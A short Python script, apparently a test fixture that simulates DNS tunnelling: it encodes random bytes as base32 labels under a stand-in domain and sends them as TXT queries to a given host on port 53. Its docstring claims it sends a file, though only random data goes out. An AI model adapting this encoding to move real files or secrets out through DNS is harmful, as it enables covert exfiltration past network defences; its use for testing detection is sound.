"""Sends a file as names that are asked for."""
import base64
import os
import socket
import sys
import time

connection = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
connection.connect((sys.argv[1], 53))
kept = []
for number in range(40):
    label = base64.b32encode(os.urandom(35)).decode().rstrip("=").lower()
    name = f"{number}.{label}.{label[:40]}.t.tunnel-example.com"
    kept.append(name)
    query = b"".join(bytes([len(part)]) + part.encode() for part in name.split(".")) + b"\0\0\x10\0\x01"
    try:
        connection.send(b"\x12\x34\x01\0\0\x01\0\0\0\0\0\0" + query)
    except OSError:
        pass
print("ready", flush=True)
while True:
    time.sleep(1)
